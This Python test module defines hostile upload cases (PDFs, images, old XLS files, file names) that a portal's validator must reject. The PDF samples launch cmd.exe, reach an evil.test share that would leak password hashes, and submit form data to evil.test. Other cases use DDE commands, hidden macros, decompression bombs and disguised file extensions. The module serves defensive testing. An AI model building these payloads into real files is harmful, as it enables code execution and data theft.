"""The hostile files: what each is, why it is refused, and what that proves."""

from typing import Any, Final

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories.uploads import images, old_sheets, pdfs, sheets
from tests.factories.uploads.cases import Hostile
from tests.factories.uploads.old_sheets import biff, old_book, ole
from tests.factories.uploads.pdfs import action, annotation, on_open, on_page, pdf, root
from tradeconnect.common.uploads import limits

Row = tuple[Any, ...]


def _script(title: str, change: Any, proves: str, **options: Any) -> Hostile:
    return Hostile(title, "a.pdf", lambda: pdf(change, **options), "script", ("pdf object: script",), proves)


def _pdf(code: str, title: str, change: Any, proves: str, **options: Any) -> Hostile:
    return Hostile(title, "a.pdf", lambda: pdf(change, **options), code, (f"pdf object: {code}",), proves)


SCRIPTS: Final = [
    _script("script when opened", on_open(pdfs.script), "the plain case"),
    Hostile(
        "script with an escaped name", "a.pdf", pdfs.escaped, "script", ("pdf object: script",), "names are decoded"
    ),
    _script("script in an object stream", pdfs.deep_script, "packed objects are read", **pdfs.OBJECT_STREAMS),
    _script("script on a page", on_page(pdfs.script), "pages are read"),
    _script("script as a stream", pdfs.script_as_stream, "a script need not be a string"),
    _script("script of a form field", pdfs.field_script, "fields are read"),
    _script("script of a bookmark", pdfs.outline_script, "bookmarks are read"),
    _script(
        "script of the document",
        root(Names=lambda document: Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdfs.script()])))),
        "name trees are read",
    ),
]
ACTIONS: Final = [
    _pdf("launch", "starts a program", on_page(lambda: action(S=Name.Launch, F=String("cmd.exe"))), "the plain case"),
    _pdf(
        "launch",
        "starts a program of Windows",
        on_open(lambda: action(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))),
        "parameters of a system are of no matter",
    ),
    _pdf(
        "launch",
        "opens a file of another machine",
        on_open(lambda: action(S=Name.GoToR, F=String("\\\\evil.test\\share\\a.pdf"), D=Array([0, Name.Fit]))),
        "the name of a share would send the reader's password hash",
    ),
    _pdf("launch", "goes to a file inside", on_open(lambda: action(S=Name.GoToE, D=String("a"))), "embedded targets"),
    _pdf(
        "launch",
        "sends what is in the form",
        on_open(lambda: action(S=Name.SubmitForm, F=String("https://evil.test"))),
        "data leaves without a script too",
    ),
    _pdf("launch", "reads a file into a form", on_open(lambda: action(S=Name.ImportData, F=String("c:/x"))), "FDF"),
    _pdf(
        "address", "link with javascript:", pdfs.link(" java\nscript:alert(1)"), "blanks in the scheme do not hide it"
    ),
    _pdf("address", "link to a local file", pdfs.link("file:///c:/windows/system32/calc.exe"), "file: links"),
    _pdf("address", "link to a share", pdfs.link("\\\\evil.test\\share"), "links without a scheme"),
    _pdf("address", "link with data:", pdfs.link("DATA:text/html,<script>x</script>"), "upper case does not hide it"),
]
CARRIED: Final = [
    _pdf("embedded", "another file inside", pdfs.embedded, "the plain case"),
    _pdf("embedded", "a file pinned to a page", pdfs.attached_to_page, "annotations carry files too"),
    _pdf("embedded", "associated file", root(AF=Array([])), "the way of PDF/A-3"),
    _pdf("embedded", "portfolio", root(Collection=Dictionary(View=Name.D)), "a folder of files dressed as a PDF"),
    _pdf("xfa", "XFA form", root(AcroForm=lambda d: Dictionary(Fields=Array(), XFA=d.make_stream(b"<x/>"))), "XFA"),
    _pdf("media", "rich media", annotation(Subtype=Name.RichMedia), "Flash and its heirs"),
    _pdf("media", "3D model", annotation(Subtype=Name("/3D")), "another parser of the reader"),
    _pdf("media", "film", annotation(Subtype=Name.Movie), "film"),
    _pdf("media", "sound when opened", on_open(lambda: action(S=Name.Sound)), "actions play too"),
    _pdf("media", "rendition", on_open(lambda: action(S=Name.Rendition, OP=0)), "the newer way to play"),
    _pdf("outside", "content in another file", pdfs.outside_stream, "a share is asked for a part of the page"),
    _pdf(
        "outside",
        "names a file that is not here",
        root(Extra=Dictionary(Type=Name.Filespec, F=String("c:/x"))),
        "descriptions of files without the file",
    ),
]
PDF_SIZE: Final = [
    Hostile(
        "501 pages", "a.pdf", lambda: pdf(pages=501), "pages", ("pdf document: pages",), "nobody can look through them"
    ),
    Hostile(
        "too many objects",
        "a.pdf",
        lambda: pdf(pages=20),
        "objects",
        ("pdf document: objects",),
        "objects are counted before they are read",
        {"PDF_OBJECTS": 20},
    ),
    Hostile(
        "picture of 3.6 billion pixels inside",
        "a.pdf",
        lambda: pdf(pdfs.picture_of(60_000, 60_000)),
        "pixels",
        ("pdf stream: pixels",),
        "the reader's memory, not ours, would go",
    ),
    Hostile(
        "stream that unpacks to 101 MB",
        "a.pdf",
        lambda: pdf(pdfs.packed_stream(pdfs.bomb(101 * 1024 * 1024))),
        "unpacks",
        ("pdf stream: unpacks",),
        "unpacking stops at the allowance",
    ),
    Hostile(
        "packed twice",
        "a.pdf",
        lambda: pdf(pdfs.packed_stream(pdfs.bomb(100), Array([Name.FlateDecode, Name.FlateDecode]))),
        "unpacks",
        ("pdf stream: unpacks",),
        "a bomb in a bomb: a thousand times a thousand",
    ),
]
PDF_SHAPE: Final = [
    Hostile(
        "encrypted",
        "a.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "locked",
        ("reader: pdf",),
        "what cannot be read is not let in",
    ),
    Hostile(
        "encrypted, opens without a password",
        "a.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")),
        "locked",
        ("pdf document: locked",),
        "its rights would stop the officer's stamp",
    ),
    Hostile(
        "ZIP after the end",
        "a.pdf",
        lambda: pdf() + sheets.archive({"x": b"y"}),
        "tail",
        ("pdf bytes: tail",),
        "two files in one",
    ),
    Hostile(
        "ZIP inside",
        "a.pdf",
        lambda: pdf().replace(b"startxref", b"%" + sheets.archive({"x": b"y"}) + b"\nstartxref"),
        "tail",
        ("pdf bytes: tail",),
        "an archive is read from its end, so it may begin anywhere",
    ),
    Hostile(
        "page of the web after the end",
        "a.pdf",
        lambda: pdf() + b"<script>alert(1)</script>",
        "tail",
        ("pdf bytes: tail",),
        "a browser that sniffs",
    ),
    Hostile(
        "head not at the start",
        "a.pdf",
        lambda: b"\n" + pdf(),
        "content",
        ("gate: content",),
        "readers differ in where they look",
    ),
    Hostile("cut in the middle", "a.pdf", lambda: pdf()[:200], "damaged", ("reader: pdf",), "an upload that broke off"),
    Hostile(
        "only a head and an end", "a.pdf", lambda: b"%PDF-1.7\nno\n%%EOF\n", "damaged", ("reader: pdf",), "no body"
    ),
    Hostile("no page", "a.pdf", lambda: pdf(pages=0), "damaged", ("reader: pdf",), "nothing to look at"),
    Hostile(
        "nested 100 deep",
        "a.pdf",
        lambda: pdf(pdfs.nested(100)),
        "damaged",
        ("reader: pdf",),
        "no walk without an end",
    ),
    Hostile(
        "page of the web called PDF",
        "a.pdf",
        lambda: b"<html>%PDF-1.7</html>",
        "content",
        ("gate: content", "reader: pdf"),
        "the first bytes count",
    ),
    Hostile(
        "program called PDF", "a.pdf", lambda: b"MZ" + bytes(100), "content", ("gate: content", "reader: pdf"), "so too"
    ),
]


def _picture(title: str, name: str, make: Any, code: str, off: tuple[str, ...], proves: str, **low: int) -> Hostile:
    return Hostile(title, name, make, code, off, proves, low)


PICTURES: Final = [
    _picture(
        "PNG called JPG", "a.jpg", images.picture, "content", ("gate: content", "reader: jpg"), "name and content agree"
    ),
    _picture(
        "GIF called PNG",
        "a.png",
        lambda: images.picture("GIF"),
        "content",
        ("gate: content", "reader: png"),
        "only the kinds on the list are decoded",
    ),
    _picture(
        "SVG called PNG", "a.png", lambda: b"<svg/>", "content", ("gate: content", "reader: png"), "scripts in pictures"
    ),
    _picture(
        "picture of 3.6 billion pixels",
        "a.png",
        lambda: images.png_of(60_000, 60_000),
        "pixels",
        ("reader: png",),
        "looked at before anything is unpacked",
    ),
    _picture(
        "JPG of 4 billion pixels",
        "a.jpg",
        lambda: images.jpeg_of(65_000, 65_000),
        "pixels",
        ("reader: jpg",),
        "JPG too",
    ),
    _picture(
        "one row of pixels too many",
        "a.png",
        lambda: images.picture(size=(60, 41)),
        "pixels",
        ("picture: pixels",),
        "the limit is exact",
        PICTURE_PIXELS=60 * 40,
    ),
    _picture(
        "JPG cut off",
        "a.jpg",
        lambda: images.picture("JPEG", size=(400, 400))[:600],
        "damaged",
        ("reader: jpg",),
        "no half picture",
    ),
    _picture(
        "PNG cut off",
        "a.png",
        lambda: images.picture(size=(400, 400))[:150],
        "damaged",
        ("reader: png",),
        "no half picture",
    ),
    _picture(
        "PNG with a wrong byte", "a.png", images.broken_png, "damaged", ("reader: png",), "check sums are looked at"
    ),
    _picture(
        "JPG of a head only", "a.jpg", lambda: b"\xff\xd8\xff\xe0", "damaged", ("reader: jpg",), "magic is not all"
    ),
    _picture(
        "ZIP behind a PNG",
        "a.png",
        lambda: images.picture() + sheets.archive({"x": b"y"}),
        "tail",
        ("picture: tail",),
        "two files in one",
    ),
    _picture(
        "ZIP behind a JPG",
        "a.jpg",
        lambda: images.picture("JPEG") + sheets.archive({"x": b"y"}),
        "tail",
        ("picture: tail",),
        "two files in one",
    ),
]


def _old(title: str, make: Any, code: str, check: str, proves: str) -> Hostile:
    return Hostile(title, "a.xls", make, code, (check,), proves)


OLD_SHEETS: Final = [
    _old(
        "Visual Basic in XLS",
        lambda: ole({"Workbook": biff(old_sheets.sheet()), "VBA": b""}),
        "macros",
        "xls container: macros",
        "the stream of the code",
    ),
    _old(
        "project of macros in XLS",
        lambda: old_book(storages=("_VBA_PROJECT_CUR",)),
        "macros",
        "xls container: macros",
        "the storage of the project",
    ),
    _old(
        "project hidden from the directory",
        lambda: ole({"Workbook": biff(old_sheets.sheet()) + "_VBA_PROJECT".encode("utf-16-le")}),
        "macros",
        "xls container: macros",
        "a directory that shows one reader less than another",
    ),
    _old("Excel 4 macro sheet", lambda: old_book(old_sheets.sheet(1)), "macros", "xls record: macros", "the old way"),
    _old(
        "hidden macro sheet",
        lambda: old_book(old_sheets.sheet(1, state=2)),
        "macros",
        "xls record: macros",
        "very hidden sheets are sheets",
    ),
    _old("Visual Basic sheet", lambda: old_book(old_sheets.sheet(6)), "macros", "xls record: macros", "Excel 5"),
    _old(
        "name that runs when opened",
        lambda: old_book(old_sheets.built_in_name(1)),
        "macros",
        "xls record: macros",
        "Auto_Open without a macro sheet of this book",
    ),
    _old("record of a project", lambda: old_book((old_sheets.OBPROJ, b"")), "macros", "xls record: macros", "OBPROJ"),
    _old(
        "XLS with a password",
        lambda: old_book((old_sheets.FILEPASS, bytes(6))),
        "locked",
        "xls record: locked",
        "what cannot be read is not let in",
    ),
    _old(
        "object in XLS",
        lambda: ole({"Workbook": biff(old_sheets.sheet()), "\x01Ole10Native": b"x"}),
        "links",
        "xls container: links",
        "a program behind an icon",
    ),
    _old("document in XLS", lambda: old_book(storages=("MBD0001A",)), "links", "xls container: links", "OLE storages"),
    _old(
        "another workbook is asked",
        lambda: old_book((old_sheets.SUPBOOK, b"\x01\x00\x08\x00\x00\x01\\\\evil.x")),
        "links",
        "xls record: links",
        "external references",
    ),
    _old(
        "DDE in XLS",
        lambda: old_book((old_sheets.SUPBOOK, b"\x00\x00\x08\x00\x00cmd\x03/c x")),
        "links",
        "xls record: links",
        "DDE servers are written as external books",
    ),
    _old("database in XLS", lambda: old_book((old_sheets.DBQUERY, b"")), "links", "xls record: links", "queries"),
    _old(
        "link to a file in XLS",
        lambda: old_book(old_sheets.link(old_sheets.FILE_MONIKER, "c:/x.exe")),
        "links",
        "xls record: links",
        "a click that starts a program",
    ),
    _old(
        "ZIP behind XLS",
        lambda: old_book() + sheets.archive({"x": b"y"}),
        "tail",
        "xls container: tail",
        "two files in one",
    ),
    Hostile(
        "encrypted XLSX called XLS",
        "a.xls",
        lambda: ole({"EncryptedPackage": b"x"}),
        "locked",
        ("reader: xls",),
        "the container of a password",
    ),
    Hostile(
        "Word file called XLS",
        "a.xls",
        lambda: ole({"WordDocument": b"x"}),
        "damaged",
        ("reader: xls",),
        "the same container, another kind",
    ),
    Hostile(
        "XLS cut off", "a.xls", lambda: old_book()[:1500], "damaged", ("reader: xls",), "sectors that are not there"
    ),
    Hostile(
        "XLS that goes round",
        "a.xls",
        lambda: old_book(loop=True),
        "damaged",
        ("reader: xls",),
        "no walk without an end",
    ),
]
NAMES: Final = [
    Hostile("empty", "a.pdf", lambda: b"", "empty", ("gate: empty", "gate: content", "reader: pdf"), "said as such"),
    Hostile(
        "too large",
        "a.pdf",
        lambda: pdf().ljust(limits.LIMIT_BYTES + 1, b"\n"),
        "size",
        ("gate: size",),
        "not one byte more",
    ),
    *(
        Hostile(title, name, make, "kind", ("gate: kind", "gate: content"), proves)
        for title, name, make, proves in (
            ("program", "a.exe", lambda: b"MZ", "a list of what is taken, not of what is not"),
            ("second ending", "invoice.pdf.exe", pdf, "the last ending counts"),
            ("no ending", "invoice", pdf, "content alone is not enough"),
            ("vector picture", "a.svg", lambda: b"<svg/>", "SVG runs scripts"),
            ("page of the web", "a.html", lambda: b"<html>", "HTML runs scripts"),
            ("workbook with macros", "a.xlsm", sheets.book, "the honest name too"),
            ("ending turned round", "invoice\u202efdp.exe", pdf, "direction marks do not disguise"),
        )
    ),
    Hostile(
        "Aadhaar number in the name",
        "aadhaar 2341 2341 2346.pdf",
        pdf,
        "aadhaar",
        ("gate: aadhaar",),
        "the portal stores no such number",
    ),
]
